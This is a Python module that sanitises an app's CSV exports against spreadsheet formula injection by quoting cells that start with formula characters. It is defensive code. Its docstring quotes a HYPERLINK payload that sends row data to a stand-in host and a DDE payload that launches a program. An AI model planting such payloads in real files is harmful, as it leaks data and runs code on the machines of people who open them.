"""CSV the app hands out, made safe to open in Excel, LibreOffice or Google Sheets.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by a
spreadsheet as a formula: a setter's note ``=HYPERLINK("http://x/?d="&B2,"Open")`` would leak
the row to whoever clicks it, ``+cmd|' /C calc'!A0`` runs a program through DDE. OWASP's rule
(CSV injection) is to prefix such a cell with a single quote, so it is shown as the text typed.
Only the file is changed: the database keeps the value exactly as it was typed.

Every CSV writer in the app goes through :func:`csv_writer` (or :func:`spreadsheet_cell`), so a
new export cannot forget the rule.
"""

import csv
import re
from collections.abc import Iterable
from typing import Any

# The characters a spreadsheet reads as "a formula follows" (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A plain number or phone ("+971501234567", "+971 50 123 4567", "(04) 123 4567", "-3", "12.5"):
# a sign, digits, spaces, brackets and dots cannot name a cell, call a function or reach DDE
# (each needs letters or one of = & ! | " :), so Excel can at worst show it as a number. These
# are left as they are, on purpose: a quote in front would spoil every phone number in the file
# for the dialer or re-import it is exported for, while protecting against nothing. Anything
# else after a sign ("-2+3", "+cmd|...", "@SUM(1+1)") is neutralised.
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9 ().]*[0-9][0-9 ().]*")


def spreadsheet_cell(value: Any) -> Any:
    """The value as a spreadsheet should show it: text that would start a formula gets a
    leading single quote; plain numbers, phones and non-text values come back unchanged."""
    if not isinstance(value, str) or not value:
        return value
    # Leading spaces or line breaks do not stop every spreadsheet from reading a formula.
    first = value.lstrip(" \n")[:1] or value[:1]
    if value[0] not in FORMULA_STARTS and first not in FORMULA_STARTS:
        return value
    if _PLAIN_NUMBER.fullmatch(value.strip(" ")):
        return value
    return "'" + value


class _SafeWriter:
    """csv.writer with every cell passed through spreadsheet_cell."""

    def __init__(self, file, **fmtparams) -> None:
        self._writer = csv.writer(file, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([spreadsheet_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(file, **fmtparams) -> _SafeWriter:
    """A csv.writer for files people open in a spreadsheet (same arguments as csv.writer)."""
    return _SafeWriter(file, **fmtparams)
